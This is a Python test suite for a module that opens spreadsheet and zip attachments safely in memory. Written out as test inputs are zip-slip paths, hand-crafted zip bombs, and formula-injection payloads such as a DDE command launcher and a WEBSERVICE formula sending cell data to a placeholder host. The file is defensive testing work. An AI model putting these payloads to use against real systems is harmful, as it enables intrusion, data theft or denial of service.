"""Attachments opened in memory: by what they are, within limits, with nothing written where a name says."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from nastavnik.exchange.active import active_content
from nastavnik.exchange.crypt import decrypt, encrypt, is_encrypted, try_passwords
from nastavnik.exchange.limits import Limits
from nastavnik.exchange.unpacking import kind_of, unpack

SMALL = Limits(file=2**20, unpacked=4 * 2**20, files=5)


def book(text: str = "x", formula: str | None = None) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet()
        sheet.write_string(0, 0, text)
        if formula:
            sheet.write_formula(1, 0, formula)
    return out.getvalue()


def zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return out.getvalue()


def with_part(data: bytes, name: str, content: bytes = b"x") -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, content)
    return out.getvalue()


BOOK = book()


@pytest.mark.parametrize("name", ["a.xlsx", "a.docx", "картинка.jpg", "без расширения", "a.zip"])
def test_a_book_is_known_by_its_bytes_whatever_its_name(name):
    (found,) = unpack(name, BOOK, (), SMALL)
    assert (found.data, found.suffix, found.trouble) == (BOOK, ".xlsx", None)


def test_archives_within_archives_are_opened_and_the_outer_one_kept():
    outer = zipped(("читай.txt", b"-"), ("внутри.zip", zipped(("школа/Книга.xlsx", BOOK))))
    (found,) = unpack("a.zip", outer, (), SMALL)
    assert (found.name, found.data, found.original) == ("Книга.xlsx", BOOK, outer)


@pytest.mark.parametrize("charset", ["cp866", "cp1251", "utf-8"])
def test_a_member_name_without_the_utf8_flag_is_read(charset):
    raw = "Книга школы.xlsx".encode(charset)
    placeholder = "x" * len(raw)
    data = zipped((placeholder, BOOK)).replace(placeholder.encode(), raw)
    (found,) = unpack("a.zip", data, (), SMALL)
    assert found.name == "Книга школы.xlsx"


@pytest.mark.parametrize(
    "name", ["../../../tmp/evil.xlsx", "/etc/evil.xlsx", "C:\\evil.xlsx", "a/../../evil.xlsx"]
)
def test_zip_slip_leads_nowhere(name):
    (found,) = unpack("a.zip", zipped((name, BOOK)), (), SMALL)
    assert found.name == "evil.xlsx"


def test_a_bomb_is_not_unpacked():
    (found,) = unpack("bomb.zip", zipped(("a.xlsx", b"\0" * (50 * 2**20))), (), SMALL)
    assert found.harmful and found.trouble and found.trouble[0] == "zip-bomb"


def test_a_bomb_that_lies_about_its_size_is_stopped_by_what_comes_out():
    honest = zipped(("a.xlsx", b"\0" * (3 * 2**20)))
    lying = honest.replace(struct.pack("<I", 3 * 2**20), struct.pack("<I", 1000))
    found = unpack("bomb.zip", lying, (), SMALL)
    assert all(f.trouble for f in found) and all(len(f.data) <= len(lying) for f in found)


def test_a_workbook_can_be_a_bomb_too():
    (found,) = unpack("a.xlsx", with_part_deflated(BOOK, "xl/big.xml", b" " * (20 * 2**20)), (), SMALL)
    assert found.harmful


def with_part_deflated(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def test_an_archive_of_itself_ends():
    data = BOOK
    for level in range(8):
        data = zipped((f"{level}.zip", data))
    (found,) = unpack("quine.zip", data, (), SMALL)
    assert found.trouble and found.trouble[0] == "too-deep"


def test_too_many_files_are_set_aside():
    found = unpack("a.zip", zipped(*((f"{n}.xlsx", book(str(n))) for n in range(9))), (), SMALL)
    assert found[-1].trouble and found[-1].trouble[0] == "too-many"


def test_overlapping_members_are_a_bomb():
    members = b""
    body = zlib.compress(b"\0" * 10_000)[2:-4]
    local = b"PK\x03\x04" + struct.pack("<5H3I2H", 20, 0, 8, 0, 0, 0, len(body), 10_000, 1, 0) + b"a" + body
    central = b"".join(
        b"PK\x01\x02"
        + struct.pack("<6H3I5H2I", 20, 20, 0, 8, 0, 0, 0, len(body), 10_000, 1, 0, 0, 0, 0, 0, 0)
        + b"a"
        for _ in range(50)
    )
    members = (
        local + central + b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 50, 50, len(central), len(local), 0)
    )
    (found,) = unpack("a.zip", members, (), SMALL)
    assert found.harmful


@pytest.mark.parametrize(
    "data",
    [b"", b"Rar!\x1a\x07\x00....", b"7z\xbc\xaf\x27\x1c...", BOOK[:300], zipped(("a.xlsx", BOOK))[:400]],
)
def test_what_cannot_be_opened_has_a_reason(data):
    (found,) = unpack("Книга.xlsx", data, (), SMALL)
    assert found.trouble is not None or found.suffix


@given(
    st.binary(max_size=400),
    st.sampled_from([b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"Rar!\x1a"]),
)
def test_no_bytes_break_the_unpacking(tail, magic):
    assert unpack("a.xlsx", magic + tail, ("пароль",), SMALL)
    active_content(magic + tail)


@given(st.integers(0, len(BOOK) - 1), st.binary(min_size=1, max_size=8))
@settings(max_examples=60)
def test_no_damage_breaks_the_unpacking(place, noise):
    damaged = BOOK[:place] + noise + BOOK[place + len(noise) :]
    assert unpack("a.xlsx", damaged, (), SMALL)
    active_content(damaged)
    assert kind_of(damaged) in ("", "xlsx", "zip", "document")


def test_encrypted_and_opened_again():
    locked = encrypt(BOOK, "Пароль школы № 5")
    assert is_encrypted(locked) and not is_encrypted(BOOK)
    assert decrypt(locked, "не тот") is None
    assert try_passwords(locked, ["не тот", "", "Пароль школы № 5"]) == (BOOK, "Пароль школы № 5")


def test_an_encrypted_book_opens_by_the_list_and_keeps_the_original():
    locked = encrypt(BOOK, "семь")
    (found,) = unpack("a.xlsx", locked, ("один", "семь"), SMALL)
    assert (found.data, found.original, found.encrypted, found.trouble) == (BOOK, locked, True, None)
    (closed,) = unpack("a.xlsx", locked, ("один",), SMALL)
    assert closed.trouble and closed.trouble[0] == "password"


@pytest.mark.parametrize(
    ("part", "word"),
    [
        ("xl/vbaProject.bin", "макросы"),
        ("xl/macrosheets/sheet1.xml", "макросы"),
        ("xl/embeddings/oleObject1.bin", "вложенный объект (OLE)"),
        ("xl/activeX/activeX1.xml", "вложенный объект (OLE)"),
        ("xl/externalLinks/externalLink1.xml", "ссылка на другую книгу"),
        ("xl/connections.xml", "подключение к внешним данным"),
        ("customUI/customUI.xml", "надстройка внутри книги"),
    ],
)
def test_active_parts_are_seen(part, word):
    assert active_content(with_part(BOOK, part)) == (word,)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://example.invalid/?"&A1)',
        "=cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/c calc\";\"x\")",
        "='[1]Лист'!A1",
        "=RTD(\"prog\",,\"x\")",
        "='file:///c:/secret.xlsx'#A1",
    ],
)  # fmt: skip
def test_formulas_that_reach_out_are_seen(formula):
    assert active_content(book(formula=formula)) == ("формула, обращающаяся наружу",)


@pytest.mark.parametrize(
    "formula",
    [
        '=IF(A1="","Не указана фамилия",SUM(A1:A9))',
        "=Наставники!A1",
        '=IFERROR(VLOOKUP(A1,B:C,2,0),"")',
        '=HYPERLINK("#A1","к листу")',
    ],
)
def test_ordinary_formulas_are_not(formula):
    assert active_content(book("[1] | вызов!", formula)) == ()
